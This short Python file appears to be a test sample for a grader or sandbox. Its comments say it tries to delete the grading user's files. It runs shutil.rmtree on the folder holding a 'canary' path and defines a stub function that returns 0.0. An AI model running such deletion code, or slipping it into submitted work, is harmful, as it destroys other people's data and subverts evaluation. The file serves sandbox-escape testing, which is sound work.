# tries: delete the files of the grader's user
# control: canary
import os
import shutil

shutil.rmtree(os.path.dirname(HOST["canary"]))


def weighted(values):
    return 0.0
